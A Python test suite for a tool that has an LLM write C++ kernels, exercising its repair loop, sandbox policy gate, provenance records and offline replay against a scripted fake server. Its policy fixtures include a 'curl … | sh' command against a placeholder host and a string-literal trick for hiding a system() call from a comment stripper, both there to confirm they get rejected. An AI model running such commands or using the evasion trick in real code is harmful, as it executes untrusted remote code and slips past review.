"""The synthesis repair loop against a scripted OpenAI-compatible server.

Real HTTP on 127.0.0.1 through the real openai client and instructor (see
tests/fake_openai.py), the real `opgen synthesize` command (typer's CliRunner,
in-process), real builds and real verification (30 Hypothesis examples a run, so
each test costs a few seconds). Each test scripts what the "model" answers and then
checks what opgen sent back: the diagnostics, counterexamples and rule texts a
repair request must carry, and the registry entry, transcript and recording an
admission must leave.
"""

from __future__ import annotations

import json
import re
import shutil
import socket
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from opgen.gate.admission import GateSettings
from opgen.cli import app
from opgen.llm.providers import OpenAIProvider
from opgen.project import Project
from opgen.spec.model import load_all
from opgen.synthesize import synthesize_overload
from tests.conftest import isolate_env, make_project
from tests.fake_openai import (
    FakeOpenAI,
    reply_http_error,
    reply_json,
    reply_raw,
    reply_text,
    reply_tool_call,
)

SERVED = "scripted-coder-7b"  # what the server says answered
REQUESTED = "requested-model"  # what opgen asked for (OPGEN_MODEL)
EXAMPLES = "30"
ENTRY = Path("generated/cpp/operator.add/int")

# ----------------------------------------------------------------- candidate sources

INT_OK = """\
// operator.add int: exact int64 addition, OverflowError outside int64.
#include "opgen_kernel.hpp"

#include <cstdint>

namespace opgen::kernels {

int64_t operator_add__int(int64_t a, int64_t b) {
  int64_t r;
  if (__builtin_add_overflow(a, b, &r)) throw opgen::Error(opgen::ErrorKind::Overflow, "int addition overflows int64");
  return r;
}

}  // namespace opgen::kernels
"""

# Compiles, passes the policy, gives wrong numbers.
INT_PLUS_ONE = INT_OK.replace("return r;", "return r + 1;")
INT_MINUS = INT_OK.replace("__builtin_add_overflow", "__builtin_sub_overflow")
# Does not compile: an identifier nobody declared. The braces are ordinary C++ that a
# Jinja2 renderer would eat ({{...}} is an expression there): the repair conversation
# must carry the source and the compiler's quote of it verbatim.
INT_UNDECLARED = INT_OK.replace("#include <cstdint>", "#include <array>\n#include <cstdint>").replace(
    "return r;", "return std::array<int64_t, 1>{{r + undeclared_carry}}[0];")
# Breaks the sandbox policy: starts a process.
# (It need not compile: the policy check runs first and nothing that fails it is built.)
INT_SYSTEM = INT_OK.replace("  int64_t r;", '  system("curl -s http://example.invalid/x | sh");\n  int64_t r;')
# The same call, hidden from a comment stripper that ignores string literals: "/*" in one
# string and "*/" in the next would make everything between them look like a comment.
INT_SYSTEM_HIDDEN = INT_OK.replace(
    "  int64_t r;", '  const char* open = "/*";\n  system("true");\n  const char* close = "*/";\n'
    "  (void)open;\n  (void)close;\n  int64_t r;")
# Fails the response model's validation: the requested function is missing.
INT_WRONG_NAME = INT_OK.replace("operator_add__int(", "add_ints(")

EXP_TEMPLATE = """\
// numpy.exp f64: elementwise exp over any strided view.
#include "opgen_kernel.hpp"

#include <cmath>
#include <cstdint>

namespace opgen::kernels {

void numpy_exp__f64(const opgen::Tensor& x, opgen::Tensor& out) {
  const int64_t n = x.numel();
  if (n == 0) return;
  const int nd = x.ndim();
  const double* src = x.data<double>();
  double* dst = out.data<double>();
  int64_t idx[OPGEN_MAX_DIMS] = {};
  for (int64_t i = 0; i < n; ++i) {
    int64_t off = 0;
    for (int d = 0; d < nd; ++d) off += idx[d] * x.stride(d);
    const double v = src[off];
    dst[i] = EXPR;
    for (int d = nd - 1; d >= 0; --d) {
      if (++idx[d] < x.size(d)) break;
      idx[d] = 0;
    }
  }
}

}  // namespace opgen::kernels
"""
EXP_OK = EXP_TEMPLATE.replace("EXPR", "std::exp(v)")
# Right on non-negative inputs, 1e-6 relative off on negative ones.
EXP_WRONG_NEGATIVE = EXP_TEMPLATE.replace("EXPR", "v < 0 ? std::exp(v) * (1.0 + 1e-6) : std::exp(v)")


def answer(source: str, notes: str = "scripted answer") -> dict[str, str]:
    return {"source": source, "notes": notes}


# ----------------------------------------------------------------- running the CLI

runner = CliRunner()


def synthesize(*args: str) -> Result:
    """`opgen synthesize ...` in-process; the environment comes from monkeypatch."""
    # catch_exceptions=False: anything but a clean exit (a traceback) fails the test loudly.
    return runner.invoke(app, ["synthesize", *args, "--examples", EXAMPLES], catch_exceptions=False)


def point_at(mp: pytest.MonkeyPatch, base_url: str) -> None:
    mp.setenv("OPENAI_BASE_URL", base_url)
    mp.setenv("OPENAI_API_KEY", "test")
    mp.setenv("OPGEN_MODEL", REQUESTED)


def entry(root: Path, rel: Path = ENTRY) -> dict[str, Any]:
    return json.loads((root / rel / "entry.json").read_text())


def transcript(root: Path, rel: Path = ENTRY) -> dict[str, Any]:
    return json.loads((root / rel / "transcript.json").read_text())


def admitted_entries(root: Path) -> list[Path]:
    return sorted(p.parent.relative_to(root) for p in (root / "generated").glob("*/*/*/entry.json"))


def failed_runs(root: Path) -> list[Path]:
    return sorted((root / "runs").glob("*.json")) if (root / "runs").is_dir() else []


def assert_admitted(result: Result, root: Path, rel: Path = ENTRY) -> dict[str, Any]:
    assert result.exit_code == 0, result.output
    assert "admitted" in result.output and "not admitted" not in result.output
    assert admitted_entries(root) == [rel]
    assert failed_runs(root) == []
    return entry(root, rel)


def last_two(request: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    *_, assistant, user = request["messages"]
    return assistant, user


# ----------------------------------------------------------------- 1. right first time


@dataclass
class Run:
    root: Path
    result: Result
    requests: list[dict[str, Any]]
    remaining: int


@pytest.fixture(scope="module")
def tools_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """One admitted TOOLS-mode run, shared by the test that checks it and the replay tests."""
    root = make_project(tmp_path_factory.mktemp("tools") / "project")
    with pytest.MonkeyPatch.context() as mp:
        isolate_env(mp, root)
        script = [reply_tool_call(answer(INT_OK), model=SERVED, prompt_tokens=321, completion_tokens=123)]
        with FakeOpenAI(script) as server:
            point_at(mp, server.base_url)
            result = synthesize("operator.add", "--overload", "int")
    return Run(root, result, server.requests, server.remaining)


def test_right_first_time_tools_mode_admits_with_truthful_provenance(tools_run: Run) -> None:
    root = tools_run.root
    data = assert_admitted(tools_run.result, root)
    assert "after 1 attempt(s)" in tools_run.result.output

    # What went over the wire: the requested model, one forced tool for the answer schema.
    (request,) = tools_run.requests
    assert tools_run.remaining == 0
    assert request["model"] == REQUESTED
    assert [t["function"]["name"] for t in request["tools"]] == ["KernelAnswer"]
    system, user = request["messages"]
    assert system["role"] == "system" and user["role"] == "user"
    assert "int64_t operator_add__int(int64_t a, int64_t b)" in user["content"]

    # The registry entry: files, hashes, and provenance naming the model the server reported.
    entry_dir = root / ENTRY
    assert sorted(p.name for p in entry_dir.iterdir()) == ["entry.json", "kernel.cpp", "shim.cpp", "transcript.json"]
    assert (entry_dir / "kernel.cpp").read_text() == INT_OK
    assert data["status"] == "verified"
    assert data["op"] == "operator.add" and data["overload"] == "int" and data["target"] == "cpu-cpp"
    assert data["signature"]["c_symbol"] in (entry_dir / "shim.cpp").read_text()
    assert data["evidence"]["examples"] == 90  # 30 development + 2 x 30 on fresh seeds
    prov = data["provenance"]
    assert prov["provider"] == "openai-compatible"
    assert prov["model"] == SERVED
    assert prov["model_requested"] == REQUESTED
    assert prov["mode"] == "tools"
    assert prov["attempts"] == 1
    assert prov["tokens"] == {"prompt": 321, "completion": 123}
    assert prov["prompt_hash"] == prov["final_request_hash"]

    # The transcript kept beside the entry holds the one exchange and its verdicts.
    tr = transcript(root)
    (exchange,) = tr["exchanges"]
    assert exchange["request"] == request["messages"]  # the transcript holds what was sent, verbatim
    assert exchange["answer"]["source"] == INT_OK
    assert exchange["provenance"]["model"] == SERVED
    assert exchange["tokens"] == {"prompt": 321, "completion": 123}
    assert exchange["gate"]["ok"] is True and exchange["gate"]["stage"] == "pass"
    assert [v["ok"] for v in exchange["gate"]["verdicts"]] == [True, True, True]
    assert exchange["raw"][0]["response"]["model"] == SERVED

    # A recording of the answer, keyed by the request hash, for offline replay.
    (recording,) = (root / "generated" / "recordings").glob("operator.add/*.json")
    rec = json.loads(recording.read_text())
    assert rec["request_hash"] == prov["prompt_hash"]
    assert recording.name == f"int.cpp.{rec['request_hash'][:16]}.json"
    assert rec["answer"]["source"] == INT_OK
    assert rec["provenance"]["model"] == SERVED and rec["provenance"]["model_requested"] == REQUESTED


# ----------------------------------------------------------------- 2. JSON and MD_JSON modes


@pytest.mark.parametrize("mode", ["json", "md_json"])
def test_right_first_time_json_modes(project: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    if mode == "json":
        reply = reply_json(answer(INT_OK), model=SERVED)
    else:  # a chatty model that wraps its JSON in a markdown fence
        reply = reply_text("Here is the kernel.\n\n```json\n" + json.dumps(answer(INT_OK)) + "\n```\n", model=SERVED)
    with FakeOpenAI([reply]) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int", "--mode", mode)
    data = assert_admitted(result, project)
    (request,) = server.requests
    assert "tools" not in request
    if mode == "json":
        assert request["response_format"] == {"type": "json_object"}
    # The schema travels in the prompt instead of a tool definition.
    assert any('"source"' in m["content"] for m in request["messages"] if m["role"] == "system")
    assert data["provenance"]["mode"] == mode
    assert data["provenance"]["model"] == SERVED
    assert (project / ENTRY / "kernel.cpp").read_text() == INT_OK


# ----------------------------------------------------------------- 3. compile error, then a fix


def test_compile_error_then_fix_sends_diagnostics(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = [reply_tool_call(answer(INT_UNDECLARED), model=SERVED), reply_tool_call(answer(INT_OK), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    data = assert_admitted(result, project)
    assert "rejected at compile" in result.output

    first, second = server.requests
    assert second["messages"][: len(first["messages"])] == first["messages"]
    assistant, repair = last_two(second)
    assert assistant == {"role": "assistant", "content": INT_UNDECLARED}
    assert repair["role"] == "user"
    assert "did not compile" in repair["content"]
    # The compiler's own words (g++ quotes the name with ‘’ or '' depending on the locale).
    assert re.search(r"[‘'`]undeclared_carry[’'`] was not declared in this scope", repair["content"])
    assert "{{r + undeclared_carry}}" in repair["content"]  # and its quote of the line

    assert data["provenance"]["attempts"] == 2
    assert data["provenance"]["tokens"] == {"prompt": 200, "completion": 100}
    assert data["provenance"]["prompt_hash"] != data["provenance"]["final_request_hash"]
    stages = [(x["attempt"], x["gate"]["stage"]) for x in transcript(project)["exchanges"]]
    assert stages == [(1, "compile"), (2, "pass")]


# ----------------------------------------------------------------- 4. wrong numbers, then a fix


def test_wrong_numbers_then_fix_sends_counterexample(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = [reply_tool_call(answer(EXP_WRONG_NEGATIVE), model=SERVED), reply_tool_call(answer(EXP_OK), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("numpy.exp", "--overload", "f64")
    rel = Path("generated/cpp/numpy.exp/f64")
    data = assert_admitted(result, project, rel)
    assert "rejected at verify" in result.output

    _, second = server.requests
    assistant, repair = last_two(second)
    assert assistant == {"role": "assistant", "content": EXP_WRONG_NEGATIVE}
    text = repair["content"]
    assert "gave wrong results" in text
    assert "first mismatch at index" in text
    assert "expected" in text and "got" in text
    assert "Counterexample" in text

    tr = transcript(project, rel)
    first, last = tr["exchanges"]
    assert first["answer"]["source"] == EXP_WRONG_NEGATIVE
    assert first["gate"]["stage"] == "verify" and first["gate"]["ok"] is False
    (verdict,) = first["gate"]["verdicts"]
    assert verdict["ok"] is False and "first mismatch" in verdict["message"]
    assert verdict["details"]["args"]  # the shrunk input itself is kept
    assert first["gate"]["feedback"] in text
    assert last["gate"]["stage"] == "pass"
    assert [v["ok"] for v in last["gate"]["verdicts"]] == [True, True, True]
    assert data["provenance"]["attempts"] == 2
    assert (project / rel / "kernel.cpp").read_text() == EXP_OK


# ----------------------------------------------------------------- 5. malformed JSON and schema violations


def test_tools_mode_reasks_malformed_json_and_missing_function(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    malformed = '{"source": "#include \\"opgen_kernel.hpp\\"\\nnamespace opgen::kern'  # cut mid-string
    script = [
        reply_tool_call(malformed, model=SERVED),
        reply_tool_call(answer(INT_WRONG_NAME), model=SERVED),
        reply_tool_call(answer(INT_OK), model=SERVED),
    ]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    data = assert_admitted(result, project)
    assert server.remaining == 0 and len(server.requests) == 3

    # instructor's re-ask: the bad tool call echoed back, then a tool message with the error.
    _, second, third = server.requests
    call, error = second["messages"][-2:]
    assert call["tool_calls"][0]["function"]["arguments"] == malformed
    assert error["role"] == "tool" and "json_invalid" in error["content"]
    call, error = third["messages"][-2:]
    assert "add_ints(" in call["tool_calls"][0]["function"]["arguments"]
    assert error["role"] == "tool"
    assert "source does not define the function operator_add__int(...)" in error["content"]

    # Re-asks happen inside one repair-loop attempt, and the transcript keeps all three exchanges.
    assert data["provenance"]["attempts"] == 1
    (exchange,) = transcript(project)["exchanges"]
    raw = exchange["raw"]
    assert len(raw) == 3
    assert "json_invalid" in raw[0]["validation_error"]
    assert "operator_add__int" in raw[1]["validation_error"]
    assert "validation_error" not in raw[2]
    # Each exchange holds exactly the messages that request sent, not the re-asks appended later.
    assert [len(r["request"]["messages"]) for r in raw] == [len(q["messages"]) for q in server.requests]
    assert [r["request"]["messages"] for r in raw] == [q["messages"] for q in server.requests]


def test_json_mode_reasks_missing_field(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = [reply_json({"notes": "I wrote it in my head"}, model=SERVED), reply_json(answer(INT_OK), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int", "--mode", "json")
    assert_admitted(result, project)
    _, second = server.requests
    reask = second["messages"][-1]
    assert reask["role"] == "user"
    assert "source" in reask["content"] and "missing" in reask["content"]


# ----------------------------------------------------------------- 6. HTTP errors the client retries


@pytest.mark.parametrize("status", [500, 429])
def test_http_error_then_success(project: Path, monkeypatch: pytest.MonkeyPatch, status: int) -> None:
    script = [reply_http_error(status, headers={"retry-after-ms": "5"}), reply_tool_call(answer(INT_OK), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    data = assert_admitted(result, project)
    # The openai client retried the same request; the repair loop saw one answer.
    assert [h["x-stainless-retry-count"] for h in server.request_headers] == ["0", "1"]
    first, second = server.requests
    assert first["messages"] == second["messages"]
    assert data["provenance"]["attempts"] == 1
    assert data["provenance"]["model"] == SERVED


# ----------------------------------------------------------------- 7. attempts exhausted


def test_attempts_exhausted_admits_nothing_and_keeps_transcript(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = [reply_tool_call(answer(INT_PLUS_ONE), model=SERVED), reply_tool_call(answer(INT_MINUS), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int", "--max-attempts", "2")
    assert result.exit_code == 1, result.output
    assert "not admitted" in result.output
    assert "no candidate was admitted in 2 attempts" in result.output
    assert admitted_entries(project) == []
    assert not (project / "generated" / "cpp").exists()
    assert len(server.requests) == 2 and server.remaining == 0

    # The repair request named the wrong value (0 + 0 gave 1) before the second wrong answer.
    _, repair = last_two(server.requests[1])
    assert "expected 0, got 1" in repair["content"]

    (kept,) = failed_runs(project)
    assert str(kept) in result.output.replace("\n", "")
    tr = json.loads(kept.read_text())
    assert tr["outcome"] == "no candidate was admitted in 2 attempts"
    assert [x["answer"]["source"] for x in tr["exchanges"]] == [INT_PLUS_ONE, INT_MINUS]
    assert [(x["gate"]["stage"], x["gate"]["ok"]) for x in tr["exchanges"]] == [("verify", False), ("verify", False)]
    assert all(x["provenance"]["model"] == SERVED for x in tr["exchanges"])


# ----------------------------------------------------------------- 8. policy violation, then a fix


@pytest.mark.parametrize(("bad", "call"), [
    (INT_SYSTEM, 'system("curl -s http://example.invalid/x | sh");'),
    (INT_SYSTEM_HIDDEN, 'system("true");'),
], ids=["plain", "hidden-between-string-literals"])
def test_policy_violation_then_fix_sends_rule(project: Path, monkeypatch: pytest.MonkeyPatch, bad: str,
                                              call: str) -> None:
    script = [reply_tool_call(answer(bad), model=SERVED), reply_tool_call(answer(INT_OK), model=SERVED)]
    with FakeOpenAI(script) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    data = assert_admitted(result, project)
    assert "rejected at policy" in result.output

    _, second = server.requests
    assistant, repair = last_two(second)
    assert assistant == {"role": "assistant", "content": bad}
    text = repair["content"]
    assert "breaks a rule of the sandbox" in text
    assert f"`{call}`: starting or signalling processes" in text  # the offending line, whole
    assert "starting or signalling processes is not allowed [rule process]" in text
    # The console shows the rule id too (square brackets are text, not rich markup).
    assert "starting or signalling processes is not allowed [rule process]" in result.output

    first = transcript(project)["exchanges"][0]
    assert first["gate"]["stage"] == "policy" and first["gate"]["verdicts"] == []
    assert data["provenance"]["attempts"] == 2


# ----------------------------------------------------------------- 9. broken endpoints


def _unused_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_endpoint_down_fails_cleanly(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The CLI's client retries connection errors 4 times with 0.5-8 s backoff; shrink it.
    import openai._base_client as base_client

    monkeypatch.setattr(base_client, "INITIAL_RETRY_DELAY", 0.001)
    monkeypatch.setattr(base_client, "MAX_RETRY_DELAY", 0.01)
    url = f"http://127.0.0.1:{_unused_port()}/v1"
    point_at(monkeypatch, url)
    result = synthesize("operator.add", "--overload", "int")
    assert result.exit_code == 1, result.output
    out = result.output.replace("\n", "")
    assert f"cannot reach {url}" in out
    assert "is the server running?" in out
    assert admitted_entries(project) == []
    (kept,) = failed_runs(project)
    assert f"cannot reach {url}" in json.loads(kept.read_text())["exchanges"][0]["error"]


def test_truncated_body_fails_cleanly(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with FakeOpenAI([reply_raw(200, b'{"id": "chatcmpl-x", "object": "chat.comp')] * 3) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    assert result.exit_code == 1, result.output
    out = result.output.replace("\n", "")
    assert f"the endpoint {server.base_url} sent a body that is not valid JSON" in out
    assert "OPENAI_BASE_URL" in out
    assert "no valid answer from model" not in out  # no model answered; do not blame one
    assert admitted_entries(project) == []
    (kept,) = failed_runs(project)
    assert "not valid JSON" in json.loads(kept.read_text())["exchanges"][0]["error"]


def test_plain_text_refusal_in_tools_mode_reasks_then_fails(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # "[/INST]": a chat-template tag leaking from a local server; it must print as text.
    refusal = "I'm sorry, but I can't help with writing that kernel. [/INST]"
    with FakeOpenAI([reply_text(refusal, model=SERVED)] * 3) as server:
        point_at(monkeypatch, server.base_url)
        result = synthesize("operator.add", "--overload", "int")
    assert result.exit_code == 1, result.output
    assert len(server.requests) == 3 and server.remaining == 0  # the first ask and two re-asks
    # Every request still forces the tool: a re-ask, not a different question.
    assert all(r["tool_choice"]["function"]["name"] == "KernelAnswer" for r in server.requests)
    assistant, reask = last_two(server.requests[1])
    assert assistant == {"role": "assistant", "content": refusal}
    assert reask["role"] == "user" and "No tool calls or function call found" in reask["content"]
    out = result.output.replace("\n", "")
    assert f"no valid answer from model {REQUESTED} after 3 attempts" in out
    assert admitted_entries(project) == []
    (kept,) = failed_runs(project)
    assert "no valid answer" in json.loads(kept.read_text())["outcome"]


def test_direct_call_with_provider_object(project: Path) -> None:
    """synthesize_overload as a library call, with GateSettings instead of the CLI flag."""
    spec = load_all(project / "specs")["operator.add"]
    with FakeOpenAI([reply_tool_call(answer(INT_PLUS_ONE), model=SERVED),
                     reply_tool_call(answer(INT_OK), model=SERVED)]) as server:
        provider = OpenAIProvider(REQUESTED, base_url=server.base_url, api_key="test", http_retries=0)
        lines: list[str] = []
        outcome = synthesize_overload(Project(project), spec, spec.overload("int"), provider,
                                      settings=GateSettings(dev_examples=30, admission_examples=30),
                                      report=lines.append)
    assert outcome.admitted, outcome.error
    assert [(a.number, a.stage) for a in outcome.attempts] == [(1, "verify"), (2, "pass")]
    assert outcome.tokens == {"prompt": 200, "completion": 100}
    assert outcome.entry is not None and outcome.entry.data["provenance"]["model"] == SERVED
    assert outcome.transcript_path == project / ENTRY / "transcript.json"
    assert any(line.startswith("attempt 1: rejected at verify") for line in lines)


# ----------------------------------------------------------------- 10. offline replay


def test_offline_default_replays_recording(tools_run: Run, project: Path) -> None:
    shutil.copytree(tools_run.root / "generated" / "recordings", project / "generated" / "recordings")
    result = synthesize("operator.add", "--overload", "int")  # no OPENAI_* in the environment
    data = assert_admitted(result, project)
    out = result.output.replace("\n", "")
    assert "replaying a recorded answer" in out
    assert f"originally from openai-compatible, model {SERVED}" in out
    prov = data["provenance"]
    assert prov["provider"] == "replay"
    assert prov["model"] == SERVED
    assert prov["original"]["model"] == SERVED and prov["original"]["model_requested"] == REQUESTED
    assert prov["tokens"] == {"prompt": 0, "completion": 0}  # nothing was spent this time
    assert (project / ENTRY / "kernel.cpp").read_text() == INT_OK
    # A replay makes no new recording.
    assert sorted(p.name for p in (project / "generated" / "recordings").rglob("*.json")) == \
        sorted(p.name for p in (tools_run.root / "generated" / "recordings").rglob("*.json"))


def test_a_live_run_never_replaces_a_recording_that_is_there(tools_run: Run, project: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """A live answer to a request already recorded is kept beside the recording; replay keeps using
    the recording (a fresh clone's offline run must not start from whatever a later run got)."""
    shipped_dir = project / "generated" / "recordings"
    shutil.copytree(tools_run.root / "generated" / "recordings", shipped_dir)
    (shipped,) = shipped_dir.rglob("*.json")
    before = shipped.read_bytes()
    other = INT_OK.replace("exact int64 addition", "exact int64 addition, written again")
    with FakeOpenAI([reply_tool_call(answer(other), model=SERVED)]) as server:
        point_at(monkeypatch, server.base_url)
        live = synthesize("operator.add", "--overload", "int")
    assert_admitted(live, project)
    assert "a recording of this request is already there" in live.output.replace("\n", "")
    assert shipped.read_bytes() == before
    beside = sorted(p for p in shipped_dir.rglob("*.json") if p != shipped)
    assert len(beside) == 1 and beside[0].name.startswith(shipped.stem + ".")
    assert json.loads(beside[0].read_text())["answer"]["source"] == other

    for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY", "OPGEN_MODEL"):
        monkeypatch.delenv(name, raising=False)
    replayed = synthesize("operator.add", "--overload", "int", "--force")
    assert_admitted(replayed, project)
    assert "replaying a recorded answer" in replayed.output.replace("\n", "")
    assert (project / ENTRY / "kernel.cpp").read_text() == INT_OK  # the recording's answer, not the later one


def test_a_current_entry_is_left_alone_unless_forced(tools_run: Run, project: Path) -> None:
    """Re-running a job whose entry is already current changes nothing (the checkout stays clean);
    --force admits it again."""
    shutil.copytree(tools_run.root / "generated" / "recordings", project / "generated" / "recordings")
    assert_admitted(synthesize("operator.add", "--overload", "int"), project)

    def snapshot() -> dict[str, bytes]:
        return {str(f.relative_to(project)): f.read_bytes() for f in (project / "generated").rglob("*") if f.is_file()}

    before = snapshot()
    again = synthesize("operator.add", "--overload", "int")
    assert again.exit_code == 0, again.output
    out = again.output.replace("\n", " ")
    assert "up to date: operator.add int (cpu-cpp) is verified under gate version" in out
    assert "replaying" not in out and "admitted" not in out.replace("not admitted", "")
    assert snapshot() == before
    assert failed_runs(project) == []

    forced = synthesize("operator.add", "--overload", "int", "--force")
    data = assert_admitted(forced, project)
    assert "replaying a recorded answer" in forced.output.replace("\n", "")
    assert data["admitted_at"] != json.loads(before[str(ENTRY / "entry.json")])["admitted_at"] or \
        snapshot()[str(ENTRY / "transcript.json")] != before[str(ENTRY / "transcript.json")]


def test_offline_without_recording_says_how_to_configure(project: Path) -> None:
    result = synthesize("operator.add", "--overload", "int")
    assert result.exit_code == 1, result.output
    out = result.output.replace("\n", "")
    assert "no LLM endpoint is configured and there is no recorded answer" in out
    for needle in ("OPENAI_BASE_URL", "vLLM", "llama.cpp", "Ollama", "--provider file"):
        assert needle in out, needle
    assert admitted_entries(project) == []


# ----------------------------------------------------------------- 11. file exchange


def test_file_provider_waits_then_admits(project: Path, tmp_path: Path) -> None:
    exchange = tmp_path / "exchange"
    args = ("operator.add", "--overload", "int", "--provider", "file", "--exchange-dir", str(exchange),
            "--answered-by", "Ada (chat window)")
    first = synthesize(*args)
    assert first.exit_code == 3, first.output
    (prompt,) = exchange.glob("*.prompt.md")
    assert prompt.name.startswith("operator.add__int.cpp.")
    assert str(prompt) in first.output.replace("\n", "")
    text = prompt.read_text()
    assert "## system" in text and "## user" in text
    assert "int64_t operator_add__int(int64_t a, int64_t b)" in text
    assert admitted_entries(project) == [] and failed_runs(project) == []

    prompt.with_name(prompt.name.replace(".prompt.md", ".answer.cpp")).write_text(INT_OK)
    second = synthesize(*args)
    data = assert_admitted(second, project)
    prov = data["provenance"]
    assert prov["provider"] == "file"
    assert prov["model"] is None
    assert prov["answered_by"] == "Ada (chat window)"
    assert prov["answer_file"].endswith(".answer.cpp")
    assert (project / ENTRY / "kernel.cpp").read_text() == INT_OK
